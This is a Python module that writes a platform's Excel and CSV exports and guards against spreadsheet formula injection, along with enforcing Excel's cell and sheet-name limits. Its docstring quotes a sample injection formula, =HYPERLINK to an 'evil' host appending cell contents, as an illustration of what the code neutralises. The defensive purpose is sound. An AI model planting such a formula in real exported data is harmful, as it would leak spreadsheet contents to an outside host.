"""Workbooks and CSV files: one writer for every spreadsheet the platform produces.

Every ``.xlsx`` and ``.csv`` the platform writes — the case register, layer exports, the bank
export, evaluations, the assessment, appraisal and equivalence workbooks, the tables inside a
case archive, the dashboards' downloads — goes through :func:`write_workbook` /
:func:`workbook_bytes` or :func:`write_csv` / :func:`csv_bytes`. They apply the same rules:

* **No live formulas** (spreadsheet formula injection, OWASP "CSV Injection"). Every text cell
  is a text cell: in a workbook its type is *string* (a title such as
  ``=HYPERLINK("http://evil/"&A1,"x")`` is shown as typed, never evaluated) and a text that a
  spreadsheet would read as a formula — starting with ``= + - @``, a tab, a carriage return or
  line feed, or their full-width forms ``＝ ＋ － ＠`` — also carries Excel's quote prefix, so
  editing the cell keeps it text; in a CSV file such a text is written with a leading ``'``.
  Column headers are text cells too. Numbers, dates and booleans stay numbers, dates and
  booleans.
* **Values a workbook can hold**: control characters Excel refuses are replaced by U+FFFD; a
  text longer than Excel's 32,767 characters per cell is cut with a note saying so; lists and
  mappings become JSON, binary content ``<N bytes>``, geometries WKT, missing values empty cells.
* **Sheet names** Excel accepts: at most 31 characters, none of ``[ ] : * ? / \\``, no leading
  or trailing apostrophe, unique regardless of case.
* **Readable**: the header row frozen and bold, column widths fitted to the content (wide
  characters count double, at most 60).
* Files are written through :mod:`restoration.files` (destination checked, temp-and-rename,
  owner-only).
"""
from __future__ import annotations

import datetime as _dt
import io
import json
import math
import os
import re
import unicodedata
from decimal import Decimal
from pathlib import Path
from typing import Any, Iterable, Mapping, Sequence, Union

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from . import files

#: first characters that make a spreadsheet read a text as a formula (and their full-width forms)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: Excel's limit of characters in one cell
MAX_CELL_CHARS = 32_767
#: Excel's limit of characters in a sheet name, and the characters it refuses there
MAX_SHEET_CHARS = 31
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
#: characters an .xlsx file cannot hold (XML 1.0 control characters)
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_MAX_WIDTH, _MIN_WIDTH, _WIDTH_ROWS = 60, 8, 200
_BOLD = Font(bold=True)

#: a sheet: one table, or several blocks one under the other (a text is a caption line)
Sheet = Union[pd.DataFrame, Sequence[Union[pd.DataFrame, str]]]


# -- the text rule ----------------------------------------------------------------------------------
def formula_like(text: str) -> bool:
    """Whether a spreadsheet program would take ``text`` for a formula (or the start of one)."""
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def csv_text(text: str) -> str:
    """``text`` as a CSV cell: a formula-like text gets a leading ``'`` (OWASP's advice), so a
    spreadsheet opening the file shows it instead of evaluating it."""
    return "'" + text if formula_like(text) else text


def plain_value(v: Any) -> Any:
    """A table value as a plain cell value: None (missing), bool, int, float, date, datetime or
    text; lists and mappings as JSON, bytes as ``<N bytes>``, geometries as WKT, other objects
    as their text (a worded message: its English text)."""
    if v is None or v is pd.NaT or v is pd.NA:
        return None
    if isinstance(v, (bool, np.bool_)):
        return bool(v)
    if isinstance(v, (int, np.integer)):
        return int(v)
    if isinstance(v, (float, np.floating, Decimal)):
        x = float(v)
        if math.isnan(x):
            return None
        return x if math.isfinite(x) else ("inf" if x > 0 else "-inf")
    if isinstance(v, pd.Timestamp):
        v = v.to_pydatetime()
    if isinstance(v, _dt.datetime):
        return v.astimezone(_dt.timezone.utc).replace(tzinfo=None) if v.tzinfo else v
    if isinstance(v, _dt.date):
        return v
    if isinstance(v, str):
        return v
    if isinstance(v, (bytes, bytearray, memoryview)):
        return f"<{len(v)} bytes>"
    if isinstance(v, (dict, list, tuple, set, np.ndarray)):
        data = sorted(v, key=str) if isinstance(v, set) else (v.tolist() if isinstance(v, np.ndarray) else v)
        return json.dumps(data, ensure_ascii=False, default=str)
    wkt = getattr(v, "wkt", None)  # a shapely geometry
    if isinstance(wkt, str):
        return wkt
    try:
        if pd.isna(v):
            return None
    except (TypeError, ValueError):
        pass
    return str(v)


def _xlsx_text(text: str) -> str:
    text = _ILLEGAL.sub("\ufffd", text)
    if len(text) > MAX_CELL_CHARS:
        note = f" …[cut: {len(text):,} characters, a cell holds at most {MAX_CELL_CHARS:,}]"
        text = text[:MAX_CELL_CHARS - len(note)] + note
    return text


# -- sheet names and widths -------------------------------------------------------------------------
def sheet_names(names: Iterable[Any]) -> list[str]:
    """Names Excel accepts for ``names`` (in order): forbidden characters replaced by ``_``, at
    most 31 characters, no apostrophe at either end, not empty, unique regardless of case (a
    repeated name gets `` (2)``, `` (3)`` …)."""
    out: list[str] = []
    taken: set[str] = set()
    for raw in names:
        name = _SHEET_FORBIDDEN.sub("_", _ILLEGAL.sub("", str(raw))).strip().strip("'").strip()
        name = name[:MAX_SHEET_CHARS].strip().strip("'") or "Sheet"
        candidate, n = name, 1
        while candidate.lower() in taken or candidate.lower() == "history":  # 'History' is Excel's
            n += 1
            suffix = f" ({n})"
            candidate = name[:MAX_SHEET_CHARS - len(suffix)].rstrip().rstrip("'") + suffix
        taken.add(candidate.lower())
        out.append(candidate)
    return out


def _display_width(text: str) -> int:
    longest = max(text.split("\n"), key=len) if text else ""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in longest[:200])


def _width(header: Any, values: Sequence[Any]) -> float:
    shown = [str(header)] + ["" if v is None else (v if isinstance(v, str) else _number_text(v)) for v in values]
    return float(min(_MAX_WIDTH, max(_MIN_WIDTH, max(_display_width(s) for s in shown) + 2)))


def _number_text(v: Any) -> str:
    if isinstance(v, float):
        return f"{v:,.6g}"
    return str(v)


# -- workbooks ---------------------------------------------------------------------------------------
def _cell(ws, value: Any, bold: bool = False) -> Any:
    """What a row holds for a plain value (:func:`plain_value`): the value itself where openpyxl
    writes it as it is (numbers, dates — with a date format —, booleans, ordinary text), a cell
    typed as text with the quote prefix for a formula-like text (openpyxl would make "=…" a
    formula), a styled cell for a header."""
    if isinstance(value, str):
        value = _xlsx_text(value)
        if not formula_like(value) and not bold:
            return value
        cell = WriteOnlyCell(ws, value=value)
        cell.data_type = "s"  # text, never a formula
        if formula_like(value):
            cell.quotePrefix = True  # and editing it keeps it text
    elif not bold:
        return value
    else:
        cell = WriteOnlyCell(ws, value=value)
    if bold:
        cell.font = _BOLD
    return cell


def _blocks(sheet: Sheet) -> list[pd.DataFrame | str]:
    if isinstance(sheet, pd.DataFrame):
        return [sheet]
    return [b for b in sheet if isinstance(b, (pd.DataFrame, str))]


def _plain_rows(frame: pd.DataFrame) -> list[list[Any]]:
    frame = pd.DataFrame(frame)
    cols = [frame.iloc[:, i].tolist() for i in range(frame.shape[1])]
    return [[plain_value(v) for v in row] for row in zip(*cols)] if cols else [[] for _ in range(len(frame))]


def _fill_sheet(ws, blocks: list[pd.DataFrame | str]) -> None:
    tables = [(b, _plain_rows(b)) if isinstance(b, pd.DataFrame) else (b, None) for b in blocks]
    widths: dict[int, float] = {}
    for block, rows in tables:
        if rows is None:
            continue
        for i, header in enumerate(block.columns):
            widths[i] = max(widths.get(i, 0), _width(header, [r[i] for r in rows[:_WIDTH_ROWS]]))
    for i, w in widths.items():  # before any row: a write-only sheet takes widths first
        ws.column_dimensions[get_column_letter(i + 1)].width = w
    if tables and isinstance(tables[0][0], pd.DataFrame) and tables[0][0].shape[1]:
        ws.freeze_panes = "A2"
    for n, (block, rows) in enumerate(tables):
        if rows is None:
            ws.append([_cell(ws, plain_value(block), bold=True)])
            continue
        ws.append([_cell(ws, str(plain_value(h)), bold=True) for h in block.columns])
        for row in rows:
            ws.append([_cell(ws, v) for v in row])
        if n + 1 < len(tables):
            ws.append([])


def _workbook(sheets: Mapping[Any, Sheet]) -> Workbook:
    wb = Workbook(write_only=True)
    items = list(sheets.items()) or [("Sheet", pd.DataFrame())]
    for name, (_, sheet) in zip(sheet_names(k for k, _ in items), items):
        _fill_sheet(wb.create_sheet(name), _blocks(sheet))
    return wb


def workbook_bytes(sheets: Mapping[Any, Sheet]) -> bytes:
    """The workbook of ``sheets`` ({name: table or [table | caption, …]}) as .xlsx bytes (for a
    download button), with every rule of this module."""
    buffer = io.BytesIO()
    _workbook(sheets).save(buffer)
    return buffer.getvalue()


def write_workbook(path: str | os.PathLike, sheets: Mapping[Any, Sheet], *, field: str | None = None) -> Path:
    """Write the workbook of ``sheets`` to ``path`` (.xlsx) through :func:`restoration.files.write_file`."""
    return files.write_file(path, lambda tmp: _workbook(sheets).save(tmp), field=field)


# -- CSV ---------------------------------------------------------------------------------------------
def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell (and header) made safe for a spreadsheet (see
    :func:`csv_text`) and other objects as plain values; numbers and dates untouched."""
    out = pd.DataFrame(frame).copy()
    out.columns = [csv_text(str(c)) for c in out.columns]
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if col.dtype == object or isinstance(col.dtype, pd.StringDtype):
            values = [plain_value(v) for v in col.tolist()]
            out.isetitem(i, pd.Series([csv_text(v) if isinstance(v, str) else v for v in values],
                                      index=out.index, dtype=object))
    return out


def csv_bytes(frame: pd.DataFrame, encoding: str = "utf-8-sig") -> bytes:
    """``frame`` as CSV bytes (no index; UTF-8 with a byte-order mark by default, which Excel
    needs to read Chinese text), text cells made safe (:func:`csv_frame`)."""
    return csv_frame(frame).to_csv(index=False).encode(encoding)


def write_csv(path: str | os.PathLike, frame: pd.DataFrame, *, encoding: str = "utf-8-sig",
              field: str | None = None) -> Path:
    """Write ``frame`` as CSV (:func:`csv_bytes`) through :func:`restoration.files.write_file`."""
    return files.write_bytes(path, csv_bytes(frame, encoding), field=field)


__all__ = ["FORMULA_STARTS", "MAX_CELL_CHARS", "formula_like", "csv_text", "plain_value", "sheet_names",
           "workbook_bytes", "write_workbook", "csv_frame", "csv_bytes", "write_csv"]
